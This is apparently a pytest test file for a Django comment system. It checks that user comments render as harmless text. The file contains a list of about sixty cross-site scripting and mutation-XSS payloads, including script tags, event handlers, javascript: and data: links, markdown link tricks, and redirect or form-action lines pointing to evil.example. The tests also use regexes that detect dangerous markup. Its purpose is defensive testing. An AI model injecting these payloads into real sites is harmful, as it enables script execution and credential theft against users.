"""Family X on comments: nothing typed is ever more than text."""

import re

import pytest
from django.test import Client

from mitsprache.comments.models import Answer, Comment
from mitsprache.common.text import render_markdown, render_plain, tidy
from tests import factories
from tests.common.test_text import MARKDOWN_TAGS, PLAIN_TAGS, assert_harmless, work

# Payloads that change while a browser parses them, from public collections of mutation attacks.
MUTATING = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password></form>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<img src=x onerror=alert(1)>",
    "<img src='x`onerror=alert(1)`'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p id=main></p><p id=main></p><input name=cookie>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></div></article></main><h1>Gehackt</h1>",
    "\"><svg onload=alert(1)>",
    "'-alert(1)-'",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](java\nscript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\" onclick=alert(1) x=\">",
    "[x](https://evil.example/ \"onmouseover=alert(1)\")",
    "[x](https://evil.example/\" onclick=\"alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "https://evil.example/\"onmouseover=alert(1)//",
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/<img src=x onerror=alert(1)>",
    "www.evil.example/&quot;onclick=alert(1)",
    "https://stadt.example@evil.example/",
    "{{7*7}} {% load x %} ${7*7} %(x)s {user.password}",
]  # fmt: skip


@pytest.mark.parametrize("payload", MUTATING)
def test_X_04_what_comes_out_is_on_the_servers_list_alone(payload: str) -> None:
    assert_harmless(render_plain(payload), tags=PLAIN_TAGS)
    assert_harmless(render_markdown(payload), tags=MARKDOWN_TAGS)


@pytest.mark.parametrize("payload", MUTATING)
def test_X_04_cleaning_twice_is_cleaning_once(payload: str) -> None:
    import nh3

    for html, tags in (
        (render_plain(payload), PLAIN_TAGS),
        (render_markdown(payload), MARKDOWN_TAGS),
    ):
        once = nh3.clean(html, tags=tags, link_rel=None, attributes={"a": {"href", "rel", "title"}})
        twice = nh3.clean(
            once, tags=tags, link_rel=None, attributes={"a": {"href", "rel", "title"}}
        )
        assert once == twice
        assert once.count("<") == html.count("<")
    assert tidy(tidy(payload)) == tidy(payload)


@pytest.mark.django_db
def test_X_04_payloads_posted_past_the_form_stand_on_the_page_as_text() -> None:
    project = factories.published_project()
    client = Client()
    path = f"/vorhaben/{project.slug}/kommentar/"
    for number, payload in enumerate(MUTATING):
        author = factories.person(f"p{number}@demo.example", "<svg onload=alert(1)>Autor")
        client.force_login(author, backend="django.contrib.auth.backends.ModelBackend")
        entries = {"kind": "opinion", "text": payload, "key": f"key-{number:05}"}
        assert client.post(path, entries).status_code == 302

    assert Comment.objects.count() == len(MUTATING)
    for number in (1, 2, 3):
        page = Client().get(f"/vorhaben/{project.slug}/?kommentare={number}").content.decode()
        talk = page.partition('id="kommentare"')[2].partition("</main>")[0]
        assert not re.search(r"<(script|iframe|object|embed|base|meta|form|style|math)\b", talk)
        assert not re.search(r"<[a-z]+[^>]*\son[a-z]+\s*=", talk)
        assert not re.search(r'href="(?!/|\?|#|https?://)', talk)
        assert "&lt;svg onload=alert(1)&gt;Autor" in talk


@pytest.mark.django_db
def test_X_04_payloads_in_a_statement_stand_on_the_page_as_text() -> None:
    project = factories.published_project()
    comment = factories.comment(project.thread)
    factories.answer(comment, "\n\n".join(MUTATING))

    html = Answer.objects.get().html

    assert_harmless(html, tags=MARKDOWN_TAGS)
    page = Client().get(f"/vorhaben/{project.slug}/").content.decode()
    assert html in page


@pytest.mark.django_db
@pytest.mark.parametrize("pattern", ["a", "<", "&", '"', "www.", "<b><i>", "x" * 500 + " "])
def test_X_07_50_kB_in_a_comment_cost_at_most_ten_times_of_5_kB(pattern: str) -> None:
    project = factories.published_project()
    client = Client()
    client.force_login(factories.citizen(), backend="django.contrib.auth.backends.ModelBackend")
    path = f"/vorhaben/{project.slug}/kommentar/"

    def send(size: int) -> None:
        text = (pattern * (size // len(pattern) + 1))[:size]
        response = client.post(path, {"kind": "opinion", "text": text, "key": f"key-{size:06}"})
        assert response.status_code == (302 if size <= 5000 else 422)

    send(100)  # what is built on first use counts for nobody

    assert work(lambda: send(50_000)) <= 12 * work(lambda: send(5_001))
